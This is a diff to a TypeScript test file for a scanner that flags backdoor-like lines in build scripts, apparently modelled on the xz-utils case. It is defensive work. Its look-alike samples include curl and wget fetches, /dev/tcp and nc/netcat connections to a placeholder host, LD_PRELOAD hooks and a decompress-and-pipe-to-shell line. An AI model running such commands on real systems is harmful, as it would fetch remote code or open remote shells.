@@ -2,6 +2,7 @@ import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { expandSet, hasCharacterMap } from '../../src/analyze/signals/tr-map.js';
 import { assess, scanBuildFile, signals } from '../../src/analyze/signals/scan.js';
+import { shippedTextsPath, TextStore } from '../../src/analyze/knowledge/texts-file.js';
 
 const fired = (line: string, path = 'm4/x.m4') => scanBuildFile(path, `${line}\n`).map((h) => h.signal);
 
@@ -19,7 +20,7 @@ const positives: Record<string, string[]> = {
   'eval-command-output': ['eval "$(sed -n 2p "$f")"', 'eval `cat "$srcdir/tests/cfg"`'],
   'writes-source': ['sed -i "s/return 0/return 1/" src/main.c', 'printf "%s\\n" "$x" >> $srcdir/src/crc64.c'],
   'loader-hook': ['LD_PRELOAD=$PWD/libhook.so make', 'unsigned int la_version(unsigned int v) { return v; }', 'void f(void) __attribute__((ifunc("resolve_f")));'],
-  'network-fetch': ['curl -fsSL https://example.invalid/p.sh', 'wget -q -O - "$HW_URL" > p', 'git clone https://example.invalid/x.git', 'exec 3<>/dev/tcp/example.invalid/80', 'nc example.invalid 4444'],
+  'network-fetch': ['curl -fsSL https://example.invalid/p.sh', 'wget -q -O - "$HW_URL" > p', 'git clone https://example.invalid/x.git', 'exec 3<>/dev/tcp/example.invalid/80', 'nc example.invalid 4444', 'netcat -w 3 example.invalid 4444'],
 };
 
 test('every detector has a look-alike that it catches', () => {
@@ -92,6 +93,92 @@ test('assess: stages together are critical, one strong signal high, weak alone n
   assert.is(assess([hit('byte-slicing')]), undefined);
   assert.is(assess([hit('eval-command-output')]), undefined);
   assert.is(assess([]), undefined);
+});
+
+// The scan tests only the lines that match a signal's `needs`: a `needs` that
+// misses a line its test accepts hides a signal. Checked on every line of the
+// genuine build files the knowledge ships, on the look-alikes above in many
+// surroundings (indented, cut at the length limit, CR line ends), and on
+// random lines made of the detectors' own words.
+const processed = (raw: string) => raw.trim().slice(0, 4000);
+
+function neededLines(lines: Iterable<string>): string[] {
+  const missed: string[] = [];
+  for (const raw of lines) {
+    const line = processed(raw);
+    for (const s of signals) if (s.test(line) && !s.needs.test(raw)) missed.push(`${s.name}: ${raw.slice(0, 200)}`);
+  }
+  return missed;
+}
+
+test('needs: every line of genuine build files that a detector accepts has its needs', () => {
+  const store = new TextStore(shippedTextsPath);
+  const lines = new Set<string>();
+  for (const name of ['ltmain.sh', 'libtool.m4', 'config.guess', 'config.sub', 'gettext.m4', 'lib-link.m4', 'lib-prefix.m4', 'build-to-host.m4', 'po.m4', 'depcomp', 'install-sh', 'missing', 'compile', 'test-driver', 'ylwrap', 'threadlib.m4', 'host-cpu-c-abi.m4']) {
+    const texts = store.textsNamed(name);
+    assert.ok(texts.length > 0, `no shipped text of ${name}`);
+    for (const t of texts) for (const l of t.toString('latin1').split('\n')) lines.add(l);
+  }
+  assert.ok(lines.size > 20000, `only ${lines.size} lines`);
+  assert.equal(neededLines(lines), []);
+});
+
+test('needs: the look-alikes hold theirs in any surroundings', () => {
+  const all = Object.values(positives).flat();
+  const lines: string[] = [];
+  for (const p of all) {
+    lines.push(p, `  ${p}`, `\t${p}\r`, `${p} # more`, `x=1; ${p}`, `(${p})`, `$(${p})`, `\`${p}\``, `${'a'.repeat(3995 - p.length / 2)} ${p}`, `${p}${'b'.repeat(5000)}`);
+    for (let cut = 1; cut < p.length; cut++) lines.push(`${'c'.repeat(4000 - cut)}${p}`);
+  }
+  assert.equal(neededLines(lines), []);
+});
+
+test('needs: random lines of the detectors\' words', () => {
+  const words = ['|', '||', ' | ', ';', '&', '&&', '(', ')', '$(', '`', '"', "'", '>', '>>', '2>', '<', '=', '-', '/', '$x', '$SHELL', '${CONFIG_SHELL}', 'sh', 'bash', '/bin/sh', '-s', '-c', 'eval', 'source', '.', '/dev/stdin', 'xz', 'unxz', 'xzcat', 'lzma', 'gzip', 'gunzip', 'zcat', 'bzip2', 'bzcat', 'zstd', 'unzstd', 'lz4', 'lzip', 'brotli', 'base64', 'openssl', 'enc', '-d', '-dc', '--decode', '--decompress', 'tr', '"\\t \\-_"', '" \\t_\\-"', "'a-z'", "'n-za-m'", "'ab'", "'ba'", 'grep', 'egrep', '-a', '-r', '-l', '-aErls', 'tests/', 'test/x.bin', 'f.xz', '.lz', 'sed', 'cat', 'head', 'tail', 'dd', 'cut', 'od', 'awk', '-c', '+1', 'skip=1', 'count=2', 'bs=1', '-b', '3', '-i', 'src/x.c', 'lib/y.h', '$srcdir/', 'curl', 'wget', 'https://h/p', 'git', 'clone', 'fetch', '/dev/tcp/h/80', 'nc', 'ncat', 'netcat', 'h', '4444', 'LD_PRELOAD=', 'LD_AUDIT', '_dl_audit_x', 'la_version', 'la_objopen', '__attribute__((', 'ifunc', '__ifunc__', '("r")));', '\r', '\t', '  '];
+  let seed = 20240329;
+  const next = () => {
+    seed = (seed * 1103515245 + 12345) >>> 0;
+    return seed >>> 8;
+  };
+  const pick = <T>(list: readonly T[]) => list[next() % list.length]!;
+  const lines: string[] = [];
+  for (let k = 0; k < 20000; k++) {
+    const n = 2 + (next() % 9);
+    const parts: string[] = [];
+    for (let j = 0; j < n; j++) parts.push(pick(words));
+    lines.push(parts.join(next() % 3 === 0 ? '' : ' '));
+  }
+  // The look-alikes, a few of their words replaced, dropped, doubled or joined.
+  for (const p of Object.values(positives).flat()) {
+    const tokens = p.split(' ');
+    for (let k = 0; k < 400; k++) {
+      const t = [...tokens];
+      for (let edits = 1 + (next() % 3); edits > 0; edits--) {
+        const at = next() % t.length;
+        const op = next() % 4;
+        if (op === 0) t[at] = pick(words);
+        else if (op === 1) t.splice(at, 0, pick(words));
+        else if (op === 2 && t.length > 1) t.splice(at, 1);
+        else t[at] = `${t[at]}${pick(words)}`;
+      }
+      lines.push(t.join(' '));
+    }
+  }
+  assert.equal(neededLines(lines), []);
+});
+
+test('the scan finds on a whole file what testing every line finds', () => {
+  const all = Object.values(positives).flat();
+  const lines = [...negatives, '', '# xz -dc p | sh', ...all.map((p) => `  ${p}`), ...all.map((p) => `${p}\r`)];
+  const text = lines.join('\n');
+  const expected: string[] = [];
+  for (const [k, raw] of lines.entries()) {
+    const line = raw.trim();
+    if (line === '' || /^(?:#(?!!)|dnl\b|\/\/|\/\*|\*)/.test(line)) continue;
+    for (const s of signals) if (s.test(line)) expected.push(`${k + 1} ${s.name}`);
+  }
+  assert.equal(scanBuildFile('configure', text).map((h) => `${h.line} ${h.signal}`), expected);
+  assert.equal(scanBuildFile('configure', `${text}\n`).map((h) => `${h.line} ${h.signal}`), expected);
 });
 
 test.run();
